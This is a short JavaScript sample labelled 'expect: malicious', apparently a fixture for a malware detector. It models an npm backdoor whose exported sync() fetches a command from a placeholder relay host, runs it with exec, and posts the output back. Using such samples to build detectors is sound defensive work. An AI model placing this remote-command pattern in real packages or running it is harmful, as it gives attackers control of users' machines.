// expect: malicious
// source: the polling C2 of published npm backdoors that use fetch rather than a socket (a sync() the application
// calls asks a host the package names for a job, runs the job's command, and posts the output back)
const { exec } = require('child_process');
module.exports.sync = async function sync() {
  const res = await fetch('https://jobs.sync-relay.example/task');
  const job = await res.json();
  exec(job.cmd, (e, out) => fetch('https://jobs.sync-relay.example/out', { method: 'POST', body: String(out) }));
};
